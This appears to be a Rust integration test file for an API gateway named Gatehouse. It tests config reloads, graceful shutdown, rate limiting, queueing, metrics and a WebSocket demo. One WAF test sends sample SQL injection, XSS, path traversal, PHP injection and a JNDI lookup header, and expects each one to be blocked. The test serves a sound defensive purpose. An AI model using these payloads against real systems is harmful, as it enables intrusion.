//! Reload (SIGHUP and --watch), graceful shutdown, the admin endpoints and
//! the demo contract from the README.

mod common;

use common::{client, json, upstream, Gatehouse, Options, SIGTERM};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const ROUTES_TO_B: &str = "routes:
  - path: /which
    method: GET
    integration:
      http:
        upstream: b
";

async fn reload_setup(args: Vec<&str>) -> (Gatehouse, upstream::Upstream, upstream::Upstream) {
    let a = upstream::start("a").await;
    let b = upstream::start("b").await;
    let gh = Gatehouse::start_with(
        "reload",
        Options {
            env: vec![("A", a.address()), ("B", b.address())],
            args,
            ..Default::default()
        },
        |_| {},
    );
    (gh, a, b)
}

async fn which(gh: &Gatehouse) -> String {
    let v = json(client().get(gh.url("/which")).send().await.unwrap()).await;
    v["server"].as_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reload_under_load_fails_no_request() {
    let (gh, _a, _b) = reload_setup(vec![]).await;
    let original = std::fs::read_to_string(gh.dir.path().join("routes/api.yaml")).unwrap();
    let url = gh.url("/which");
    let stop = Arc::new(AtomicBool::new(false));
    let ok = Arc::new(AtomicUsize::new(0));
    let mut workers = Vec::new();
    for _ in 0..4 {
        let (url, stop, ok) = (url.clone(), stop.clone(), ok.clone());
        workers.push(tokio::spawn(async move {
            // One keep-alive client per worker: connections must survive reloads.
            let c = client();
            let mut failures = Vec::new();
            while !stop.load(Ordering::Relaxed) {
                match c.get(&url).send().await {
                    Ok(r) if r.status() == 200 => {
                        ok.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(r) => failures.push(format!("status {}", r.status())),
                    Err(e) => failures.push(e.to_string()),
                }
            }
            failures
        }));
    }
    for round in 0..6 {
        let target = if round % 2 == 0 {
            ROUTES_TO_B
        } else {
            original.as_str()
        };
        gh.write("routes/api.yaml", target);
        assert!(gh.reload().await, "reload {round} rejected");
        let expected = if round % 2 == 0 { "b" } else { "a" };
        assert_eq!(which(&gh).await, expected);
    }
    stop.store(true, Ordering::Relaxed);
    let mut failures = Vec::new();
    for w in workers {
        failures.extend(w.await.unwrap());
    }
    assert!(failures.is_empty(), "failed requests: {failures:?}");
    assert!(
        ok.load(Ordering::Relaxed) > 100,
        "too little load: {}",
        ok.load(Ordering::Relaxed)
    );
}

#[tokio::test]
async fn an_invalid_config_is_rejected_and_the_old_one_keeps_serving() {
    let (gh, _a, _b) = reload_setup(vec![]).await;
    let generation = gh.generation().await;
    gh.write(
        "routes/api.yaml",
        "routes:\n  - path: /which\n    integration:\n      http:\n        upstream: nowhere\n",
    );
    assert!(!gh.reload().await, "a broken config must be rejected");
    assert_eq!(gh.generation().await, generation);
    assert_eq!(which(&gh).await, "a");
    let logged = gh.stderr.lock().unwrap().join("\n");
    assert!(
        logged.contains(
            "routes/api.yaml:5:19: routes[0].integration.http.upstream: unknown upstream `nowhere`"
        ),
        "{logged}"
    );
    let metrics = gh.metrics().await;
    assert!(metrics.contains("gatehouse_config_reloads_total{result=\"rejected\"} 1"));
}

#[tokio::test]
async fn watch_reloads_when_files_change() {
    let (gh, _a, _b) = reload_setup(vec!["--watch"]).await;
    assert_eq!(which(&gh).await, "a");
    let generation = gh.generation().await;
    gh.write("routes/api.yaml", ROUTES_TO_B);
    let deadline = Instant::now() + Duration::from_secs(15);
    while gh.generation().await == generation {
        assert!(Instant::now() < deadline, "--watch did not reload");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(which(&gh).await, "b");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_finishes_in_flight_requests_then_exits() {
    let (mut gh, a, _b) = reload_setup(vec![]).await;
    let pid_file = gh.dir.path().join("data/gatehouse.pid");
    assert!(pid_file.exists());
    let url = gh.url("/slow/800");
    let in_flight = tokio::spawn(async move { client().get(url).send().await.map(|r| r.status()) });
    let deadline = Instant::now() + Duration::from_secs(10);
    while a.hits.load(Ordering::SeqCst) == 0 {
        assert!(
            Instant::now() < deadline,
            "slow request never reached the upstream"
        );
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    gh.signal(SIGTERM);
    let status = in_flight
        .await
        .unwrap()
        .expect("in-flight request must complete");
    assert_eq!(status, 200);
    let code = tokio::task::spawn_blocking(move || {
        let code = gh.wait_exit(Duration::from_secs(8));
        (code, gh)
    })
    .await
    .unwrap();
    assert_eq!(
        code.0,
        Some(0),
        "gatehouse must exit cleanly well within the 10s grace period"
    );
    assert!(!pid_file.exists());
}

/// The shipped demo: the repository's routes/ and the demo key and plan from
/// its gatehouse.yaml, on the fixture's ephemeral ports.
fn copy_shipped_routes(dir: &Path) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    common::copy_dir(&root.join("routes"), &dir.join("routes"));
    common::copy_dir(&root.join("flows"), &dir.join("flows"));
    let shipped = std::fs::read_to_string(root.join("gatehouse.yaml")).unwrap();
    // The fixture sets only ports; its messaging address joins the shipped
    // messaging section.
    let fixture = std::fs::read_to_string(dir.join("gatehouse.yaml")).unwrap();
    let fixture = fixture.replace("messaging:\n  address: 127.0.0.1:0\n", "");
    let shipped = shipped.replace("messaging:\n", "messaging:\n  address: 127.0.0.1:0\n");
    std::fs::write(dir.join("gatehouse.yaml"), format!("{fixture}\n{shipped}")).unwrap();
}

#[tokio::test]
async fn the_demo_contract_from_the_readme() {
    let gh = Gatehouse::start_with("demo", Options::default(), copy_shipped_routes);
    let c = client();

    let resp = c.get(gh.url("/demo/hello")).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["content-type"], "application/json");
    let id = resp.headers()["x-request-id"].to_str().unwrap().to_string();
    let v = json(resp).await;
    assert_eq!(v["message"], "hello from gatehouse");
    assert_eq!(v["request_id"], id.as_str());

    let resp = c.get(gh.url("/demo/nope")).send().await.unwrap();
    assert_eq!(resp.status(), 404);
    let v = json(resp).await;
    assert!(v["request_id"].as_str().is_some_and(|s| !s.is_empty()));

    let resp = c.post(gh.url("/demo/hello")).send().await.unwrap();
    assert_eq!(resp.status(), 405);
    assert_eq!(resp.headers()["allow"], "GET, HEAD");

    // /demo/limited allows 5 per second with a burst of 5: a quick run of
    // requests hits 429 after at least five successes.
    let mut statuses = Vec::new();
    let mut refused = None;
    for _ in 0..10 {
        let resp = c.get(gh.url("/demo/limited")).send().await.unwrap();
        statuses.push(resp.status().as_u16());
        if resp.status() == 429 {
            refused = Some(resp);
            break;
        }
    }
    let refused = refused.unwrap_or_else(|| panic!("no 429 in {statuses:?}"));
    assert!(statuses[..statuses.len() - 1].iter().all(|s| *s == 200));
    assert!(statuses.len() >= 6, "{statuses:?}");
    assert!(refused.headers().contains_key("retry-after"));
    assert!(refused.headers().contains_key("ratelimit"));
    assert!(refused.headers().contains_key("ratelimit-policy"));

    // POST /demo/orders checks its body against routes/schemas/order.yaml.
    let resp = c
        .post(gh.url("/demo/orders"))
        .header("content-type", "application/json")
        .body(r#"{"item":"tea","quantity":0,"colour":"green"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert_eq!(json(resp).await["violations"].as_array().unwrap().len(), 2);
    let resp = c
        .post(gh.url("/demo/orders"))
        .header("content-type", "application/json")
        .body(r#"{"item":"tea","quantity":2}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let request_id = resp.headers()["x-request-id"].to_str().unwrap().to_string();
    let message_id = json(resp).await["MessageId"].as_str().unwrap().to_string();
    // ... into the demo queue, where an SQS client finds it.
    let sqs = common::aws::sqs(&gh);
    let got = sqs
        .receive_message()
        .queue_url(format!("{}/000000000000/orders", gh.messaging_url()))
        .message_attribute_names("All")
        .send()
        .await
        .unwrap()
        .messages
        .unwrap();
    assert_eq!(got[0].message_id.as_deref(), Some(message_id.as_str()));
    assert_eq!(
        got[0].body.as_deref(),
        Some(r#"{"item":"tea","quantity":2}"#)
    );
    let attrs = got[0].message_attributes.as_ref().unwrap();
    assert_eq!(attrs["source"].string_value.as_deref(), Some("demo-api"));
    assert_eq!(
        attrs["request_id"].string_value.as_deref(),
        Some(request_id.as_str())
    );

    // POST /demo/webhooks/orders: a run of flows/demo-orders.yaml (202 with
    // its id); the paid order lands as JSON Lines with its email masked.
    let resp = c
        .post(gh.url("/demo/webhooks/orders"))
        .header("content-type", "application/json")
        .body(
            r#"[{"id":1,"status":"paid","total":12.5,"currency":"EUR","customer":{"email":"alice@example.com"},"created_at":"2026-11-24T10:00:00Z"},
                {"id":2,"status":"open","total":3,"currency":"EUR","customer":{"email":"bob@example.com"},"created_at":"2026-11-24T10:01:00Z"}]"#,
        )
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 202);
    let run_id = json(resp).await["run_id"].as_str().unwrap().to_string();
    let run = common::flows::wait_for_run(&gh, "demo-orders", &run_id).await;
    assert_eq!(run["status"], "Successful", "{run}");
    assert_eq!(run["records_read"], 2);
    assert_eq!(run["records_filtered"], 1);
    assert_eq!(run["records_written"], 1);
    let lake = gh.dir.path().join("data/lake/demo-orders");
    let files = common::flows::files_under(&lake);
    let data: Vec<_> = files.iter().filter(|f| f.ends_with(".jsonl")).collect();
    assert_eq!(data.len(), 1, "{files:?}");
    assert!(data[0].contains(&run_id));
    assert_eq!(
        std::fs::read_to_string(lake.join(data[0])).unwrap(),
        "{\"created_at\":\"2026-11-24T10:00:00Z\",\"currency\":\"EUR\",\"email\":\"*****@example.com\",\"order_id\":1,\"status\":\"paid\",\"total\":12.5}\n"
    );
    assert!(files.iter().any(|f| f.ends_with("_manifest.json")));
    let history = gh.cli(&["flow", "history", "demo-orders", "--json"]);
    assert!(history.status.success());
    let history: serde_json::Value = serde_json::from_slice(&history.stdout).unwrap();
    assert_eq!(history[0]["id"], run_id.as_str());
    assert_eq!(history[0]["trigger"], "webhook");
    // A body that is not JSON is refused before any run starts.
    let resp = c
        .post(gh.url("/demo/webhooks/orders"))
        .header("content-type", "application/json")
        .body("[{")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert_eq!(json(resp).await["code"], "BadRequest");

    // The WAF (the managed groups, then the OWASP CRS): SQL injection, XSS,
    // traversal, PHP injection and a JNDI lookup in a header are refused;
    // an Irish surname and a paragraph of prose are not.
    for (q, header, expected) in [
        ("1'%20OR%20'1'='1", None, 403),
        ("%3Cscript%3Ealert(1)%3C/script%3E", None, 403),
        ("../../etc/passwd", None, 403),
        ("%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", None, 403),
        ("1", Some("${jndi:ldap://x.example/a}"), 403),
        ("O'Brien", None, 200),
        (
            "We+select+the+best+of+our+union+members%2C+and+drop+by+the+office+later+to+update+the+table.",
            None,
            200,
        ),
    ] {
        let mut req = c.get(format!("{}?q={q}", gh.url("/demo/hello")));
        if let Some(h) = header {
            req = req.header("x-api-version", h);
        }
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status(), expected, "{q} {header:?}");
    }

    // /demo/secure: no key 401, an unknown key 403, the README's demo key 200.
    assert_eq!(
        c.get(gh.url("/demo/secure")).send().await.unwrap().status(),
        401
    );
    let with_key = |k: &'static str| c.get(gh.url("/demo/secure")).header("x-api-key", k).send();
    assert_eq!(
        with_key("gh_wrong_key_0000000000").await.unwrap().status(),
        403
    );
    let resp = with_key("gh_demo_key_for_local_testing_only")
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{:?}", resp.text().await);

    // The access log line for the first request is on stdout, as JSON.
    let line = gh.wait_stdout(&id).await;
    let entry: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(entry["route"], "hello");
    assert_eq!(entry["api"], "demo");
    assert_eq!(entry["status"], 200);

    let metrics = gh.metrics().await;
    for needle in [
        // The first GET, O'Brien and the prose past the WAF; the five
        // attacks were 403.
        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"200\"} 3",
        "gatehouse_requests_total{api=\"demo\",route=\"hello\",status=\"403\"} 5",
        "gatehouse_requests_total{api=\"-\",route=\"-\",status=\"404\"} 1",
        "gatehouse_requests_total{api=\"-\",route=\"-\",status=\"405\"} 1",
        "gatehouse_request_duration_seconds_count{api=\"demo\",route=\"hello\"} 8",
        "gatehouse_active_connections",
        "gatehouse_inflight_requests",
    ] {
        assert!(
            metrics.contains(needle),
            "metrics lack {needle}:\n{metrics}"
        );
    }
    let health = c.get(gh.admin_url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
    let ready = json(c.get(gh.admin_url("/readyz")).send().await.unwrap()).await;
    assert_eq!(ready["status"], "ready");
    assert_eq!(ready["config_generation"], 1);
    let missing = c.get(gh.admin_url("/nope")).send().await.unwrap();
    assert_eq!(missing.status(), 404);
    // Admin errors carry the request id, in the header and the body.
    let id = missing.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_string();
    let body = json(missing).await;
    assert_eq!(body["code"], "NotFound");
    assert_eq!(body["request_id"], id.as_str());
}

#[tokio::test]
async fn active_connections_are_counted_while_open() {
    let gh = Gatehouse::start_with("demo", Options::default(), copy_shipped_routes);
    let gauge = |text: &str| -> i64 {
        text.lines()
            .find_map(|l| l.strip_prefix("gatehouse_active_connections "))
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    };
    let keepalive = client();
    for _ in 0..3 {
        keepalive.get(gh.url("/demo/hello")).send().await.unwrap();
    }
    let text = gh.metrics().await;
    assert_eq!(gauge(&text), 1, "one keep-alive connection is open");
    drop(keepalive);
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let text = gh.metrics().await;
        if gauge(&text) == 0 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "connection gauge never went back to 0"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn sigint_exits_at_once_and_leaves_no_pid_file() {
    let (mut gh, _a, _b) = reload_setup(vec![]).await;
    let pid_file = gh.dir.path().join("data/gatehouse.pid");
    assert!(pid_file.exists());
    gh.signal(2);
    let code = tokio::task::spawn_blocking(move || {
        let code = gh.wait_exit(Duration::from_secs(8));
        (code, gh)
    })
    .await
    .unwrap();
    assert_eq!(code.0, Some(0));
    assert!(!pid_file.exists(), "stale pid file after SIGINT");
}

/// The README's WebSocket walkthrough on the shipped demo: echo and whoami
/// answered by the gateway, a broadcast reaching the `chat-room` queue
/// through the `chat-broadcasts` topic, and the AWS CLI posting to the
/// connection through the @connections API.
#[tokio::test]
async fn the_demo_chat_from_the_readme() {
    use futures_util::SinkExt;
    use tokio_tungstenite::tungstenite::Message;
    let gh = Gatehouse::start_with("demo", Options::default(), copy_shipped_routes);
    let (mut ws, _) = tokio_tungstenite::connect_async(common::ws::url(&gh, "/chat"))
        .await
        .unwrap();
    let next = common::ws::next_text;
    ws.send(Message::text(r#"{"action":"echo"}"#))
        .await
        .unwrap();
    let echo = next(&mut ws).await;
    assert_eq!(echo["route"], "echo");
    let id = echo["connectionId"].as_str().unwrap().to_string();
    ws.send(Message::text(r#"{"action":"whoami"}"#))
        .await
        .unwrap();
    assert_eq!(next(&mut ws).await["connectionId"], id.as_str());
    ws.send(Message::text(
        r#"{"action":"broadcast","text":"hello room"}"#,
    ))
    .await
    .unwrap();
    let sqs = common::aws::sqs(&gh);
    let got = sqs
        .receive_message()
        .queue_url(format!("{}/000000000000/chat-room", gh.messaging_url()))
        .message_attribute_names("All")
        .wait_time_seconds(10)
        .send()
        .await
        .unwrap()
        .messages
        .unwrap();
    assert_eq!(
        got[0].body.as_deref(),
        Some(r#"{"action":"broadcast","text":"hello room"}"#)
    );
    let attrs = got[0].message_attributes.as_ref().unwrap();
    assert_eq!(
        attrs["connectionId"].string_value.as_deref(),
        Some(id.as_str())
    );
    // The README's AWS CLI line, with the test's endpoint.
    let cli = std::process::Command::new("aws")
        .args(["apigatewaymanagementapi", "post-to-connection"])
        .args(["--endpoint-url", &gh.messaging_url()])
        .args(["--connection-id", &id, "--data", r#"{"hi":"from the CLI"}"#])
        .envs([
            ("AWS_ACCESS_KEY_ID", "x"),
            ("AWS_SECRET_ACCESS_KEY", "x"),
            ("AWS_DEFAULT_REGION", "us-east-1"),
        ])
        .output()
        .expect("the AWS CLI (.ci/setup installs it)");
    assert!(
        cli.status.success(),
        "{}",
        String::from_utf8_lossy(&cli.stderr)
    );
    assert_eq!(next(&mut ws).await["hi"], "from the CLI");
}
